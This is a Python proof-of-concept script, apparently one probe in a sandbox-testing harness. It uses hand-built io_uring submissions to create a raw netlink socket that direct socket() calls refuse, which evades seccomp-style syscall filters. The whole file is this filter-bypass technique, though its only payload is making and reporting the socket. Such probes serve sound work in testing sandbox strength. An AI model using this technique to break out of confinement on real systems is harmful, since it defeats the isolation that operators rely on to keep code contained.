# Has io_uring make a socket of a kind that socket() refuses (netlink), past every filter on socket().
import ctypes
import mmap
import os
import socket
import struct

IO_URING_SETUP, IO_URING_ENTER, OP_SOCKET, GET_EVENTS = 425, 426, 45, 1


def through_ring():
    params = ctypes.create_string_buffer(120)
    ring = syscall(IO_URING_SETUP, 4, params)
    numbers = struct.unpack_from("=IIIIIII12xIIIIIIIIQIIIIIIIQ", params.raw)
    entries_sq, entries_cq = numbers[0], numbers[1]
    sq = numbers[7:15]   # head, tail, mask, entries, flags, dropped, array
    cq = numbers[16:24]  # head, tail, mask, entries, overflow, cqes
    sq_map = mmap.mmap(ring, sq[6] + 4 * entries_sq, offset=0)
    cq_map = mmap.mmap(ring, cq[5] + 16 * entries_cq, offset=0x8000000)
    sqes = mmap.mmap(ring, 64 * entries_sq, offset=0x10000000)
    # domain in `fd`, type in `off`, protocol in `len` (man 3 io_uring_prep_socket)
    sqes[:64] = struct.pack("=BBHiQQIIQ24x", OP_SOCKET, 0, 0, socket.AF_NETLINK, socket.SOCK_RAW, 0, 0, 0, 7)
    sq_map[sq[6]:sq[6] + 4] = struct.pack("=I", 0)
    sq_map[sq[1]:sq[1] + 4] = struct.pack("=I", 1)
    syscall(IO_URING_ENTER, ring, 1, 1, GET_EVENTS, 0, 0)
    data, result = struct.unpack_from("=Qi", cq_map, cq[5])
    if data != 7:
        end("no completion", [data, result])
    if result < 0:
        raise OSError(-result, name_of(-result))
    return os.readlink(f"/proc/self/fd/{result}") + ", domain " + str(
        socket.socket(fileno=result).getsockopt(socket.SOL_SOCKET, socket.SO_DOMAIN))


signature, proof = attempt(through_ring)
end(signature, proof)
